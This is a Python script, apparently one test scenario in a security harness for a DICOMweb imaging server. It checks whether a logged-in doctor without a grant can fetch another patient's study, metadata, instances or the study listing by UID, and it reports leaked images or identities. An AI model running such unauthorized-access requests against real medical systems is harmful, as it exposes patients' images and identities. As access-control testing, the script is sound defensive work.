"""A doctor with a valid log-in, and no grant, fetches somebody's study by its UID."""

from __future__ import annotations

from .kit import Brief, Result, ask, enter, fetch_study, load_seeds, run
from .search import Search


def attack(brief: Brief) -> Result:
    """Succeeds when the study, its metadata or a listing comes back with pixels or an identity."""
    cookie = enter(brief, brief["person"])
    search = Search(load_seeds(brief))
    study = fetch_study(brief, cookie)
    search.feed(study.body)
    root = f"/dicom-web/studies/{brief['study']['study_uid']}"
    statuses = [study.status]
    for path in (f"{root}/metadata", f"{root}/instances", "/dicom-web/studies"):
        answer = ask(brief, "GET", path, cookie=cookie, headers={"Accept": "application/dicom+json"})
        search.feed(answer.body)
        statuses.append(answer.status)
    image = b"DICM" in study.body
    told = f"HTTP {'/'.join(map(str, statuses))}; image {'delivered' if image else 'not delivered'}"
    return Result(image or bool(search.found), f"{told}; {len(search.found)} identities told")


if __name__ == "__main__":
    run(attack)
